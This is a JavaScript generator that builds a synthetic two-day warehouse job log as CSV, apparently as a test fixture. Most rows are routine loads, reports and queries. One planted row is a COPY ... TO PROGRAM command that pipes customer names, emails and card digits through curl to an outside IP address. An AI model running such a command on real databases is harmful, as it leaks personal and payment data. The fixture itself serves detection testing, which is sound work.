import { toCsv } from "./csv.mjs";
import { createRandom } from "./random.mjs";
import { isoTime, on, steadily, HOUR, MINUTE } from "./time.mjs";

const COLUMNS = ["finished", "host", "job", "query", "user"];

/**
 * Two days of a warehouse's job log, in a format of its own: loads and reports of several shapes, and an export that nobody
 * ordered.
 * @param {number} seed
 */
export function jobEvents(seed) {
  const random = createRandom(seed);
  /** @type {Record<string, string>[]} */
  const rows = [];
  /** @param {number} at @param {string} job @param {string} query @param {string} user */
  const finish = (at, job, query, user) =>
    void rows.push({ finished: isoTime(at), host: random.pick(["dwh-1", "dwh-2"]), job, query, user });
  for (const at of steadily(random, { every: 10 * MINUTE, jitter: 9000 })) {
    finish(at, "load-orders", `COPY orders FROM 's3://example-in/orders/${random.hex(8)}.csv' CSV`, "etl");
  }
  for (const at of steadily(random, { every: HOUR, offset: 12 * MINUTE, jitter: 9000 })) {
    finish(
      at,
      "report-hourly",
      `SELECT region, sum(total) FROM orders WHERE hour = ${random.integer(0, 23)} GROUP BY region`,
      "report",
    );
    finish(at + 60_000, "vacuum", `VACUUM ANALYZE orders_${random.integer(1, 12)}`, "etl");
  }
  for (const at of steadily(random, { every: 3 * HOUR, offset: 40 * MINUTE, jitter: 600_000 })) {
    const columns = ["id", "region", "total", "status", "created", "updated"].slice(0, random.integer(3, 6)).join(", ");
    finish(
      at,
      "ad-hoc",
      `SELECT ${columns} FROM orders WHERE id IN (${Array.from({ length: random.integer(2, 8) }, () => random.integer(1000, 9999)).join(", ")})`,
      "analyst1",
    );
  }
  finish(
    on(1, 1, 13),
    "ad-hoc",
    "COPY (SELECT name, email, card_last4 FROM customers) TO PROGRAM 'curl -sT - http://203.0.113.77/in'",
    "etl",
  );
  return toCsv(
    COLUMNS,
    rows.sort((a, b) => ((a["finished"] ?? "") < (b["finished"] ?? "") ? -1 : 1)),
  );
}
